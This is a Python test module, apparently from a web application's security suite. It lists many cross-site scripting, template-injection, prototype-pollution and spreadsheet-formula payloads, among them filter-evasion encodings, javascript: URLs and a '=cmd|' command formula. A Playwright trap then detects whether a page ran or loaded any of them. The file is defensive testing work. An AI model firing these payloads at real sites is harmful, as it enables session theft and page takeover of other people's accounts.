"""Texts that would run, load or leave if a page took them for markup, and the trap that notices when one did.

Every payload calls `__xss(its number)`, or loads from ELSEWHERE: a host that does not exist. A page is innocent when
nothing called, nothing was loaded from elsewhere, no dialog opened, the content security policy had nothing to refuse,
and no element of it could run anything. Used for both faces: ``trap = await Trap.set(page, home)`` before the first
page, ``await trap.look()`` on each, ``trap.caught`` at the end.
"""

import re
from collections.abc import Iterator
from urllib.parse import urlsplit

from playwright.async_api import Dialog, Page, Request

ELSEWHERE = "//xss.invalid"

_EVENTS = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerenter",
    "onbeforeinput", "onwheel", "onscroll", "ontransitionend",
)  # fmt: skip
_CARRIERS = (
    '<img src="{away}" {event}="{run}">',
    "<svg {event}={run}>",
    '<body {event}="{run}">',
    '<input autofocus {event}="{run}">',
    '<details open {event}="{run}"><summary>x</summary></details>',
    '"><a href="#" {event}="{run}">x</a>',
    "' autofocus tabindex=0 {event}={run} x='",
    '<select {event}="{run}"><option>x</select>',
    "\"'`><img src=x {event}={run}>",
)
_ADDRESSES = (
    "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "java\nscript:{run}", "\x01javascript:{run}",
    " javascript:{run}", "javascript&colon;{run}", "javascript&#58;{run}", "&#106;avascript:{run}",
    "javascript://x.example/%0a{run}", "vbscript:{run}", "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3hzcygwKTwvc2NyaXB0Pg==", "blob:{run}", "view-source:javascript:{run}",
    "feed:javascript:{run}", "//javascript:{run}", "https:javascript:{run}",
)  # fmt: skip
_LINKS = ("[x]({to})", "<{to}>", "![x]({to})", '<a href="{to}">x</a>')
_MARKUP = (
    "<script>{run}</script>", "<script src={away}></script>", "<ScRiPt>{run}</sCrIpT>", "<scr<script>ipt>{run}</script>",
    "</title><script>{run}</script>", "</script><script>{run}</script>", "--><script>{run}</script>",
    "]]><script>{run}</script>", "</td></tr></table><script>{run}</script>", '"><script>{run}</script>',
    "'/><script>{run}</script>", "\u003cscript>{run}\u003c/script>", "%3Cscript%3E{run}%3C/script%3E",
    "&lt;script&gt;{run}&lt;/script&gt;", "\uff1cscript\uff1e{run}\uff1c/script\uff1e", "<script\x0c>{run}</script\x0c>",
    "<iframe src={away}></iframe>", '<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
    '<object data="{away}"></object>', '<embed src="{away}">', '<base href="{away}/">', '<link rel=stylesheet href="{away}">',
    '<meta http-equiv="refresh" content="0;url=javascript:{run}">', '<form action="javascript:{run}"><button>x</button></form>',
    '<button formaction="javascript:{run}">x</button>', '<isindex action="javascript:{run}" type=submit>',
    '<video src="{away}" onerror="{run}"></video>', '<audio src="{away}" onerror="{run}"></audio>',
    '<video><source onerror="{run}"></video>', '<picture><source srcset="{away}"><img onerror="{run}"></picture>',
    "<marquee onstart={run}>x</marquee>", '<portal src="{away}"></portal>', '<template><img src="{away}"></template>',
    "<noscript><p title='</noscript><img src=x onerror={run}>'></noscript>", '<math><mtext><img src="{away}"></mtext></math>',
    '<math href="javascript:{run}">x</math>', '<svg><script>{run}</script></svg>', "<svg><style><img src=x onerror={run}></style></svg>",
    '<svg><a xlink:href="javascript:{run}"><text>x</text></a></svg>', '<svg><use href="{away}#x"></use></svg>',
    '<svg><animate onbegin="{run}" attributeName=x dur=1s></svg>', '<svg><set attributeName=onmouseover to="{run}"></svg>',
    '<svg><foreignObject><img src=x onerror="{run}"></foreignObject></svg>', '<svg><image href="{away}"></svg>',
    "<img src=x:x onerror=&#95;&#95;xss(0)>", "<img src='x' onerror='&#x5f;_xss(0)'>", "<img/src=x/onerror={run}>",
    "<img\tsrc=x\tonerror={run}>", '<img """><script>{run}</script>">', "<x onclick={run} tabindex=1>x</x>",
)  # fmt: skip
_STYLES = (
    "<style>*{{background:url({away})}}</style>", "<style>@import '{away}';</style>", "</style><script>{run}</script>",
    '<p style="background:url({away})">x</p>', "red;background:url({away})", "expression({run})", "#fff;}}*{{color:red",
    "var(--x,url({away}))", '<div style="width:expression({run})">', "<style>@keyframes x{{}}</style><i onanimationend={run}>",
)  # fmt: skip
_MARKDOWN = (
    "[x](javascript:{run})", "[x](<javascript:{run}>)", "[x](\x01javascript:{run})", "![x]({away})", "![x]({away} \"onerror={run}\")",
    "[x]({away} \"><img src=x onerror={run}>\")", "<javascript:{run}>", "[r]: javascript:{run}\n\n[r]",
    "`<img src=x onerror={run}>`", "> <script>{run}</script>", "| a |\n|---|\n| <img src=x onerror={run}> |", "<details><summary onclick={run}>x",
    "~~~\n</code></pre><script>{run}</script>\n~~~", "[x](data:text/html,<script>{run}</script>)", "&#x5b;x](javascript:{run})",
)  # fmt: skip
_TEMPLATES = (
    "{{{{constructor.constructor('{run}')()}}}}", "${{{run}}}", "#{{{run}}}", "<%= {run} %>", "{{% {run} %}}", "{{{{{run}}}}}",
    "[[{run}]]", "{{{{{{{run}}}}}}}", "@({run})", "<?= {run} ?>", "__proto__", "constructor", "{{\"__proto__\":{{\"x\":1}}}}",
    "{{\"type\":\"img\",\"props\":{{\"dangerouslySetInnerHTML\":{{\"__html\":\"<img src=x onerror={run}>\"}}}}}}", "`${{{run}}}`", "');{run};//",
)  # fmt: skip
_UNICODE = (
    "\u202e<script>{run}</script>", "\ufeff<script>{run}</script>", "<\u200bscript>{run}</script>", "\u2028{run}\u2029", "<\u017fcript>{run}</\u017fcript>",
    "<\u0131frame src={away}>", "<\u212a onclick={run}>", "\u00bcscript\u00be{run}\u00bc/script\u00be", "&NewLine;javascript&colon;{run}",
    "&amp;lt;script&amp;gt;{run}", "\\x3cscript\\x3e{run}\\x3c/script\\x3e", "\\u003cimg src=x onerror={run}\\u003e", "\U000e003cscript\U000e003e{run}",
)  # fmt: skip
_SHEETS = (
    '=HYPERLINK("javascript:{run}","x")', '=IMPORTXML("https:{away}","//x")', "=cmd|'/C calc'!A0", "+{run}", "-{run}", "@SUM(1)*{run}",
    "\t=1+1", "\r=1+1", '"=1+1","<img src=x onerror={run}>"', "a,b\r\n<script>{run}</script>",
)  # fmt: skip
_UNFINISHED = (
    "```<img src=x onerror={run}>", "<img src=x onerror={run} x='", "<a href='javascript:{run}", "<svg><![CDATA[<img src=x onerror={run}>", "<textarea><img src=x onerror={run}>", "<!--<img src=x onerror={run}>",
)  # fmt: skip
"""These swallow what follows them: they come last, where nothing follows."""


def _forms() -> Iterator[str]:
    for at, event in enumerate(_EVENTS):
        for carrier in _CARRIERS[at % 2 :: 2]:
            yield carrier.replace("{event}", event)
    yield from _ADDRESSES
    for link in _LINKS:
        for address in _ADDRESSES[:3]:
            yield link.replace("{to}", address)
    for group in (_MARKUP, _STYLES, _MARKDOWN, _TEMPLATES, _UNICODE, _SHEETS, _UNFINISHED):
        yield from group


PAYLOADS = [
    form.format(run=f"__xss({number})", away=f"{ELSEWHERE}/{number}") for number, form in enumerate(_forms())
]
"""In an order that lets each have its effect when all stand in one text."""
EVERY = sum(
    f"__xss({number})" in text or f"{ELSEWHERE}/{number}" in text for number, text in enumerate(PAYLOADS)
)
"""How many of them say their number."""

_NUMBER = re.compile(r"__xss\((\d+)\)|xss\.invalid/(\d+)")
_HOOK = """
window.__caught = [];
window.__xss = (number) => window.__caught.push(`payload ${number} ran`);
document.addEventListener("securitypolicyviolation", (event) => window.__caught.push(`policy: ${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
"""
_LOOK = """() => {
  const found = window.__caught.splice(0);
  const inert = /^(https?:|mailto:|tel:|blob:|[/#?]|data:image\\/|data:,$|$)/i;
  for (const element of document.querySelectorAll("*")) {
    const tag = element.tagName.toLowerCase();
    if (["iframe", "object", "embed", "base", "portal", "foreignobject", "marquee"].includes(tag)) found.push(`<${tag}>`);
    if (tag === "script" && element.type !== "application/json" && !(element.getAttribute("src") ?? "").startsWith("/_ui/")) found.push("a script");
    for (const { name, value } of element.attributes) {
      if (name.startsWith("on")) found.push(`<${tag} ${name}>`);
      if (["href", "src", "action", "formaction", "xlink:href", "srcset", "srcdoc", "data"].includes(name)) {
        if (!inert.test(value.trim()) || (tag !== "a" && value.includes("xss.invalid"))) found.push(`<${tag} ${name}="${value.slice(0, 80)}">`);
      }
      if (name === "style" && value.includes("xss.invalid")) found.push(`<${tag} style="${value.slice(0, 80)}">`);
    }
  }
  const shown = [...document.body.children].filter((child) => child.tagName !== "SCRIPT").map((child) => child.textContent);
  const typed = [...document.querySelectorAll("input, textarea")].map((field) => field.value);
  return [found, [...shown, ...typed].join("\\n")];
}"""


class Trap:
    """What a page did that no text may make it do.

    Attributes:
        caught: one line per misdeed.
    """

    def __init__(self, page: Page, origin: str) -> None:
        self.page, self.origin = page, origin
        self.caught: list[str] = []
        self._where, self._stood = "", set[int]()

    @classmethod
    async def set(cls, page: Page, home: str) -> "Trap":
        """Watch a page from its next document on; ``home`` is an address of the only server it may ask."""
        trap = cls(page, urlsplit(home).netloc)
        await page.add_init_script(_HOOK)
        page.on("request", trap._asked)
        page.on("dialog", trap._told)
        return trap

    async def look(self) -> int:
        """Search the page as it is now; returns how many payloads stood on it, as text, so far, to see that it was worth it."""
        address = urlsplit(self.page.url)
        if address.path != self._where:
            self._where, self._stood = address.path, set()
        found: list[str]
        found, text = await self.page.evaluate(_LOOK)
        self.caught += [f"{address.path}?{address.query}: {line}" for line in found]
        self._stood |= {int(one or other) for one, other in _NUMBER.findall(text)}
        return len(self._stood)

    def _asked(self, request: Request) -> None:
        parts = urlsplit(request.url)
        if parts.scheme in {"http", "https", "ws", "wss"} and parts.netloc != self.origin:
            self.caught.append(f"asked {request.url}")

    async def _told(self, dialog: Dialog) -> None:
        if dialog.type != "beforeunload":
            self.caught.append(f"said {dialog.message}")
        await dialog.accept()
